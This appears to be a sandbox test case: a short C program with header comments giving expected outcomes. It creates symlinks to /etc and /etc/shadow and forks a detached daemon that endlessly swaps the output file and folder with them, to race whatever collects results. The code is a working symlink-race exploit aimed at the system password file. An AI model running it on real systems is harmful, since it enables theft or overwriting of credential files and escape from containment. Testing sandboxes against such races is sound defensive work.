// expect: exited 0
// wall: collect, pid
// limits: processes=8
// stdout: held
// at-most: wall=2s
// x: a daemon swaps output file and folder for symlinks and back without end, to win against whoever copies results
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(void)
{
    mkdir("/tmp/out", 0777);
    (void)!symlink("/etc", "/tmp/evil");
    (void)!symlink("/etc/shadow", "/tmp/shadow");
    close(open("/tmp/output.txt", O_CREAT | O_WRONLY, 0666));
    close(open("/tmp/out/shadow", O_CREAT | O_WRONLY, 0666));
    if (fork() == 0) {
        setsid();
        for (;;) {
            renameat2(AT_FDCWD, "/tmp/output.txt", AT_FDCWD, "/tmp/shadow", RENAME_EXCHANGE);
            renameat2(AT_FDCWD, "/tmp/out", AT_FDCWD, "/tmp/evil", RENAME_EXCHANGE);
        }
    }
    usleep(50000);
    puts("held");
    return 0;
}
